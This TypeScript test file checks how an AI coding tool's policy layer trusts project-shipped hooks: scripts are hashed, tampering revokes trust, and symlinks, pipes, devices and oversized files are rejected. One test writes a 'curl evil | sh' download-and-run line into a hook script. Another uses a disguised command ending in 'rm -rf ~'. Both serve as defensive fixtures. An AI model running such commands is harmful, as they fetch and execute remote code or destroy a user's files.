import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  mkdir,
  mkdtemp,
  readFile,
  realpath,
  rename,
  rm,
  symlink,
  truncate,
  writeFile,
} from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { openPolicy } from "../../../src/main/compose/policy";
import { findProfile } from "../../../src/main/profiles";
import { type AppFolders, appFolders } from "../../../src/main/settings/paths";
import type { PolicyControl } from "../../../src/main/settings/policy-control";
import { INSTALLED } from "../../support/installed";

let root: string;
let workspace: string;
let folders: AppFolders;
beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), "gatehouse-hooks-")));
  workspace = join(root, "project");
  folders = appFolders({ GATEHOUSE_HOME: join(root, "home") }, process.platform);
  await mkdir(workspace);
});
afterEach(() => rm(root, { recursive: true, force: true }));

async function open(explaining?: { userSettings: unknown }): Promise<PolicyControl> {
  const profile = findProfile("standard");
  if (!profile) throw new Error("No profile");
  const more = explaining ? { explaining } : {};
  return (await openPolicy({ profile, workspace, folders, env: { HOME: root }, ...INSTALLED, ...more }))
    .control;
}

async function put(file: string, value: unknown): Promise<void> {
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, typeof value === "string" ? value : JSON.stringify(value));
}

const inProject = (name: string) => join(workspace, name);
const settings = () => inProject(".gatehouse/settings.json");
const hook = (command: string, more = {}) => ({
  hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command, ...more }] }] },
});
const problems = (control: PolicyControl) => control.hooks().map(({ problem }) => problem);

async function trust(control: PolicyControl): Promise<void> {
  await control.trustProject(control.overview().project?.digest ?? "");
}

describe("hooks that a project ships", () => {
  beforeEach(async () => {
    await put(inProject("hooks/check.sh"), "exit 0\n");
    await put(settings(), hook("bash hooks/check.sh --all"));
  });

  it("don't count before trust, and what would is listed with its command and its script", async () => {
    const control = await open();
    expect(control.hooks()).toEqual([]);
    expect(control.overview().project).toMatchObject({
      trusted: false,
      file: settings(),
      wants: ["hook PreToolUse Bash: bash hooks/check.sh --all", "script hooks/check.sh"],
    });
  });

  it("change with a file that only now is what they name", async () => {
    await put(settings(), hook("node hooks/last && python3 -m tidy"));
    const control = await open();
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
    await put(inProject("tidy.py"), "");
    expect(problems(control)).toEqual([expect.stringMatching(/^tidy\.py changed since/)]);
    await rm(inProject("tidy.py"));
    expect(problems(control)).toEqual([undefined]);
    await put(inProject("hooks/last.cjs"), "");
    expect(problems(control)).toEqual([expect.stringMatching(/^hooks\/last\.cjs changed since/)]);
  });

  it("deny also when trusted, where it only shows when they run what they are", async () => {
    await put(settings(), hook("D=hooks; ./$D/check.sh"));
    const control = await open();
    await trust(control);
    expect(problems(control)).toEqual([
      "Nobody can vouch for what ./$D/check.sh will be when it runs: write it out",
    ]);
  });

  it("are in force once trusted, in this session and the next", async () => {
    const control = await open();
    await trust(control);
    for (const each of [control, await open()])
      expect(each.hooks()).toMatchObject([
        {
          event: "PreToolUse",
          matcher: "Bash",
          command: "bash hooks/check.sh --all",
          origin: { scope: "project", file: settings(), line: 1 },
        },
      ]);
    expect(problems(control)).toEqual([undefined]);
    expect(control.overview()).toMatchObject({ hooks: [{ matcher: "Bash" }], project: { trusted: true } });
  });

  it("are denied from the moment their script changes, which is named, until it is as it was or trusted again", async () => {
    const control = await open();
    await trust(control);
    await writeFile(inProject("hooks/check.sh"), "exit 1\n");
    expect(problems(control)).toEqual([expect.stringContaining("hooks/check.sh changed since")]);
    expect(control.overview().project?.trusted).toBe(false);
    await writeFile(inProject("hooks/check.sh"), "exit 0\n");
    expect(problems(control)).toEqual([undefined]);
    await writeFile(inProject("hooks/check.sh"), "exit 1\n");
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
  });

  it("are denied when the script is exchanged for another of the same size and time, goes, or comes", async () => {
    const control = await open();
    await trust(control);
    await put(inProject("other"), "exit 7\n");
    execFileSync("touch", ["-r", inProject("hooks/check.sh"), inProject("other")]);
    await rename(inProject("other"), inProject("hooks/check.sh"));
    expect(problems(control)).toEqual([expect.stringContaining("hooks/check.sh")]);
    await rm(inProject("hooks/check.sh"));
    expect(problems(control)).toEqual([expect.stringContaining("hooks/check.sh")]);
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
    await put(inProject("hooks/check.sh"), "exit 0\n");
    expect(problems(control)).toEqual([expect.stringContaining("hooks/check.sh")]);
  });

  it("are denied when the settings change, and those that came with the change, too", async () => {
    const control = await open();
    await trust(control);
    const { hooks } = hook("bash hooks/check.sh --all");
    await put(settings(), { hooks: { ...hooks, Stop: [{ hooks: [{ type: "command", command: "date" }] }] } });
    const changed = expect.stringContaining(".gatehouse/settings.json changed since");
    expect(problems(control)).toEqual([changed, changed]);
  });

  it("can't be trusted in a form that nobody has seen", async () => {
    const control = await open();
    const digest = control.overview().project?.digest ?? "";
    await writeFile(inProject("hooks/check.sh"), "curl evil | sh\n");
    await expect(control.trustProject(digest)).rejects.toThrow(/changed/);
    expect(control.hooks()).toEqual([]);
  });

  it("are not trusted along with a file that was trusted when hooks meant nothing yet", async () => {
    const trustFileAlone = async (value: unknown) => {
      await put(settings(), value);
      const digest = createHash("sha256")
        .update(await readFile(settings()))
        .digest("hex");
      await put(folders.trustFile, { projects: [{ workspace, digest }] });
      return open();
    };
    for (const command of ["date", "bash hooks/check.sh"])
      expect(problems(await trustFileAlone(hook(command)))).toEqual([
        expect.stringContaining("trusted again"),
      ]);
    const reviewed = await trustFileAlone({ shield: { reviewer: {} } });
    expect(reviewed.shield().reviewer).toBeUndefined();
    const simple = await trustFileAlone({ permissions: { allow: ["Bash"] } });
    expect(simple.overview().project?.trusted).toBe(true);
  });

  it("count for nothing when the trust store is damaged", async () => {
    const control = await open();
    await trust(control);
    await put(folders.trustFile, "{");
    expect(control.hooks()).toEqual([]);
    expect(control.overview().problems.join()).toContain(folders.trustFile);
  });

  it("are listed word for word, whatever is in the command", async () => {
    const odd = `echo "\u202egnp.exe" ; # ${"x".repeat(3_000)}\n rm -rf ~`;
    await put(settings(), hook(odd, { phase: "after" }));
    expect((await open()).overview().project?.wants).toEqual([`hook PreToolUse Bash (after): ${odd}`]);
  });

  it("that can't be understood deny what they watch once the project is trusted, and nothing before", async () => {
    await put(settings(), { hooks: { PreToolUse: [{ matcher: "Write", hooks: [{ type: "prompt" }] }] } });
    const control = await open();
    expect(control.hooks()).toEqual([]);
    await trust(control);
    expect(control.hooks()).toMatchObject([{ matcher: "Write", problem: expect.stringContaining("type") }]);
  });

  it("say whether trust is what they lack, or mending", async () => {
    const control = await open();
    await trust(control);
    await put(inProject("hooks/check.sh"), "exit 1\n");
    expect(control.hooks()).toMatchObject([{ needsTrust: true }]);
    await put(settings(), { hooks: { PreToolUse: [{ matcher: "Write", hooks: [{ type: "prompt" }] }] } });
    expect(control.hooks()).toMatchObject([{ problem: expect.stringContaining("type") }]);
    expect(control.hooks()[0]?.needsTrust).toBeUndefined();
  });
});

describe("a hook of the person's own settings", () => {
  const own = (command: string) => put(folders.settingsFile, hook(command));

  it("needs no trust when it runs nothing of the project", async () => {
    await put(join(root, "hooks/check.sh"), "exit 0\n");
    await own("bash ~/hooks/check.sh; jq -r .tool_name");
    const control = await open();
    expect(problems(control)).toEqual([undefined]);
    expect(control.overview().project).toBeUndefined();
  });

  it("needs trust for the script of the project that it runs, and tells which", async () => {
    await put(inProject("check.sh"), "exit 0\n");
    await own('"$CLAUDE_PROJECT_DIR"/check.sh');
    const control = await open();
    expect(problems(control)).toEqual([expect.stringContaining("check.sh of this project")]);
    expect(control.overview().project).toMatchObject({
      trusted: false,
      file: inProject("check.sh"),
      wants: ['script check.sh in your own hook PreToolUse Bash: "$CLAUDE_PROJECT_DIR"/check.sh'],
    });
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
    await writeFile(inProject("check.sh"), "exit 1\n");
    expect(problems(control)).toEqual([expect.stringContaining("check.sh changed since")]);
  });

  it("runs on when something else of the project changed", async () => {
    await put(inProject("check.sh"), "exit 0\n");
    await put(settings(), { permissions: { allow: ["Bash(make)"] } });
    await own("./check.sh");
    const control = await open();
    await trust(control);
    await put(settings(), { permissions: { allow: ["Bash"] } });
    expect(control.overview().project?.trusted).toBe(false);
    expect(problems(control)).toEqual([undefined]);
  });

  it("waits for nothing that isn't there, and needs trust once it is", async () => {
    await own("[ -x ./check.sh ] && ./check.sh");
    const control = await open();
    expect(problems(control)).toEqual([undefined]);
    await put(inProject("check.sh"), "exit 0\n");
    expect(problems(control)).toEqual([expect.stringContaining("check.sh")]);
  });

  it("is found out when it reaches the project by another name", async () => {
    await put(inProject("check.sh"), "exit 0\n");
    await symlink(workspace, join(root, "alias"));
    await own("bash ~/alias/check.sh");
    expect(problems(await open())).toEqual([expect.stringContaining("check.sh")]);
  });
});

describe("a script that isn't what it seems", () => {
  beforeEach(() => put(settings(), hook("bash ./check.sh")));

  it("may be a link that leads out of the project; another target, or content there, ends the trust", async () => {
    await put(join(root, "one.sh"), "exit 0\n");
    await put(join(root, "two.sh"), "exit 0\n");
    await symlink(join(root, "one.sh"), inProject("check.sh"));
    const control = await open();
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
    await rm(inProject("check.sh"));
    await symlink(join(root, "two.sh"), inProject("check.sh"));
    expect(problems(control)).toEqual([expect.stringContaining("check.sh")]);
    await trust(control);
    await writeFile(join(root, "two.sh"), "exit 1\n");
    expect(problems(control)).toEqual([expect.stringContaining("check.sh")]);
  });

  it.each([
    ["a pipe", () => execFileSync("mkfifo", [inProject("check.sh")])],
    ["a link in a circle", () => symlink("check.sh", inProject("check.sh"))],
    ["a device", () => symlink("/dev/zero", inProject("check.sh"))],
    [
      "a file of 1 GB",
      async () => {
        await writeFile(inProject("check.sh"), "");
        await truncate(inProject("check.sh"), 1e9);
      },
    ],
  ])("can't be vouched for, trusted or not, and blocks nothing else: %s", async (_, make) => {
    await make();
    const control = await open();
    expect(control.hooks()).toEqual([]);
    await trust(control);
    expect(problems(control)).toEqual([expect.stringMatching(/^Nobody can vouch for check\.sh: /)]);
    await rm(inProject("check.sh"));
    await put(inProject("check.sh"), "exit 0\n");
    expect(problems(control)).toEqual([expect.stringContaining("check.sh changed")]);
  });

  it("can't be vouched for in a hook of the person's own either", async () => {
    await rm(settings());
    await put(folders.settingsFile, hook("bash ./check.sh"));
    execFileSync("mkfifo", [inProject("check.sh")]);
    expect(problems(await open())).toEqual([expect.stringContaining("Nobody can vouch for check.sh")]);
  });

  it("may be a folder or a link to nothing, until it is a file", async () => {
    await mkdir(inProject("check.sh"));
    const control = await open();
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
    await rm(inProject("check.sh"), { recursive: true });
    await symlink("later.sh", inProject("check.sh"));
    await trust(control);
    expect(problems(control)).toEqual([undefined]);
    await put(inProject("later.sh"), "exit 0\n");
    expect(problems(control)).toEqual([expect.stringContaining("check.sh")]);
  });
});

describe("the shield", () => {
  it("unites the layers at once, and takes only what is stricter from a project that nobody trusts", async () => {
    const control = await open();
    expect(control.shield().preset).toBe("off");
    await put(folders.settingsFile, { shield: { preset: "secrets" } });
    expect(control.shield().edges.egress).toBe("redact");
    await put(settings(), {
      shield: {
        preset: "off",
        edges: { message: "block", egress: "off" },
        tools: { Read: { egress: "bypass" } },
        reviewer: {},
        assets: [
          { path: "data.csv", kind: "dataset" },
          { path: "data.csv", kind: "synthetic" },
        ],
      },
    });
    expect(control.shield()).toMatchObject({
      preset: "secrets",
      edges: { message: "block", egress: "redact" },
      tools: new Map(),
      reviewer: undefined,
      assets: [{ path: "data.csv", kind: "dataset" }],
    });
    expect(control.overview().project?.wants).toEqual([
      "shield.tools: read_file.egress = bypass",
      "shield.assets: data.csv = synthetic",
      "shield.reviewer: on error block",
    ]);
    await trust(control);
    expect(control.shield().tools.get("read_file")?.egress).toBe("bypass");
    expect(control.overview().shield).toBe(control.shield());
  });

  it("and hooks are taken from settings that stand in for the person's own, to be explained", async () => {
    await put(folders.settingsFile, { shield: { preset: "strict" }, ...hook("date") });
    const control = await open({ userSettings: { shield: { preset: "secrets" }, ...hook("true") } });
    expect(control.shield().preset).toBe("secrets");
    expect(control.hooks()).toMatchObject([{ command: "true", origin: { scope: "user" } }]);
    await expect(open({ userSettings: { shield: { preset: 1 } } })).rejects.toThrow("shield.preset");
    await expect(open({ userSettings: { hooks: [] } })).rejects.toThrow("hooks");
  });

  it("with a mistake in it stops everything, naming file and line", async () => {
    const control = await open();
    await put(settings(), '{\n"shield": {\n"preset": "strickt"}}');
    expect(() => control.shield()).toThrow(`${settings()}:3: shield.preset`);
    expect(() => control.hooks()).toThrow(settings());
    expect(() => control.state()).toThrow(settings());
  });
});

it("too many hooks of a repository can't run, and leave those of the person alone", async () => {
  const filler = (index: number) => ({ type: "command", command: `: ${index} ${"x".repeat(9_900)}` });
  await put(folders.settingsFile, hook("date"));
  await put(settings(), {
    hooks: { PreToolUse: [{ hooks: Array.from({ length: 20 }, (_, index) => filler(index)) }] },
  });
  const control = await open();
  await trust(control);
  const found = problems(control);
  expect(found[0]).toBeUndefined();
  expect(found.filter((problem) => problem?.includes("all hooks together"))).toHaveLength(10);
  const paths = (from: number) => Array.from({ length: 180 }, (_, index) => `p${from + index}`).join(" ");
  await put(settings(), {
    hooks: {
      PreToolUse: [
        {
          hooks: Array.from({ length: 7 }, (_, index) => ({
            type: "command",
            command: `: ${paths(index * 180)}`,
          })),
        },
      ],
    },
  });
  await trust(control);
  expect(problems(control).map((problem) => problem?.includes("more than 1000 paths") ?? false)).toEqual([
    ...Array.from({ length: 6 }, () => false),
    true,
    true,
  ]);
});

it("looking again gives the same hooks as long as nothing changed", async () => {
  await put(inProject("check.sh"), "exit 0\n");
  await put(folders.settingsFile, hook("./check.sh"));
  const control = await open();
  const first = control.hooks();
  expect(control.hooks()).toBe(first);
  await writeFile(inProject("check.sh"), "exit 0\n");
  expect(control.hooks()).toBe(first);
});
